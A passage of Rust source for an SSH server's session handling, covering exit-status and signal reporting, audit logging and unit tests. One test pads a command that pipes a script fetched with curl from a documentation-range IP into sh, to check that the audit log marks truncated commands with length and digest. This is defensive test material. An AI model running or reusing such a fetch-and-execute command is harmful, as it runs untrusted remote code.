            None => handle.data(channel, data).await.is_ok(),
            Some(code) => handle.extended_data(channel, code, data).await.is_ok(),
        };
        if !sent {
            return;
        }
    }
}

/// The exit status (or signal) to the client, then EOF and close; the end to the audit log.
async fn finish(
    (handle, ended): (&Handle, Ended),
    channel: ChannelId,
    status: std::io::Result<std::process::ExitStatus>,
    mut end: SessionRecord,
    audit: Arc<super::SshAudit>,
) {
    match status {
        Ok(s) => {
            if let Some(code) = s.code() {
                end.status = Some(code);
                let _ = handle
                    .exit_status_request(channel, u32::try_from(code).unwrap_or(255))
                    .await;
            } else if let Some(signal) = s.signal() {
                let sig = signal_name(signal);
                end.signal = Some(sig.clone());
                let _ = handle
                    .exit_signal_request(
                        channel,
                        to_sig(&sig),
                        s.core_dumped(),
                        String::new(),
                        String::new(),
                    )
                    .await;
            }
        }
        Err(e) => tracing::warn!("waiting for a session's process: {e}"),
    }
    let _ = audit.record(SshAuditEvent::Session(end));
    let _ = handle.eof(channel).await;
    ended
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .push(channel);
    let _ = handle.close(channel).await;
}

/// `TERM`, `KILL`, ...: the name RFC 4254 §6.10 uses, without `SIG`.
fn signal_name(signal: i32) -> String {
    match nix::sys::signal::Signal::try_from(signal) {
        Ok(s) => s.as_str().trim_start_matches("SIG").to_owned(),
        Err(_) => format!("{signal}"),
    }
}

fn to_sig(name: &str) -> Sig {
    match name {
        "ABRT" => Sig::ABRT,
        "ALRM" => Sig::ALRM,
        "FPE" => Sig::FPE,
        "HUP" => Sig::HUP,
        "ILL" => Sig::ILL,
        "INT" => Sig::INT,
        "KILL" => Sig::KILL,
        "PIPE" => Sig::PIPE,
        "QUIT" => Sig::QUIT,
        "SEGV" => Sig::SEGV,
        "TERM" => Sig::TERM,
        "USR1" => Sig::USR1,
        other => Sig::Custom(other.to_owned()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A command longer than an audit line shows is marked as cut, with its length and
    /// SHA-256: padding cannot hide what follows it.
    #[test]
    fn a_long_command_is_shown_cut_with_its_length_and_digest() {
        assert_eq!(shown_command(b"id"), "id");
        for pad in [200, 900, 1100] {
            let mut long = vec![b' '; pad];
            long.extend_from_slice(b"; curl http://198.51.100.7/x | sh");
            let shown = shown_command(&long);
            let digest = ring::digest::digest(&ring::digest::SHA256, &long);
            let hex: String = digest.as_ref().iter().map(|b| format!("{b:02x}")).collect();
            let mark = format!("[cut: {} bytes in all, sha256 {hex}] ", long.len());
            assert!(shown.starts_with(&mark), "{shown}");
            assert!(shown.ends_with(&format!("{}…", " ".repeat(128))), "{shown}");
            // The audit log's own cut leaves it whole, the mark included.
            assert_eq!(ippin_access::audit::log::cap_field(&shown), shown);
        }
        assert_eq!(shown_command(&[b'a'; 128]), "a".repeat(128));
        // Not ASCII: the mark still comes first, whatever the log's cut keeps.
        let shown = shown_command(&[0xff; 300]);
        assert!(
            ippin_access::audit::log::cap_field(&shown)
                .starts_with("[cut: 300 bytes in all, sha256 ")
        );
    }

    #[test]
    fn signals_are_named_as_rfc_4254_names_them() {
        assert_eq!(signal_name(15), "TERM");
        assert_eq!(signal_name(9), "KILL");
        assert_eq!(signal_name(10), "USR1");
        assert!(matches!(to_sig("TERM"), Sig::TERM));
        assert!(matches!(to_sig("USR2"), Sig::Custom(ref s) if s == "USR2"));
    }

    #[test]
    fn paths_are_one_shell_word() {
        assert_eq!(
            shell_quote("/usr/lib/openssh/sftp-server"),
            "'/usr/lib/openssh/sftp-server'"
        );
        assert_eq!(shell_quote("/a b/it's"), "'/a b/it'\\''s'");
    }

    #[test]
    fn terminal_sizes_are_bounded() {
        assert_eq!(u16_clamped(0), 1);
        assert_eq!(u16_clamped(80), 80);
        assert_eq!(u16_clamped(u32::MAX), 4096);
    }
}
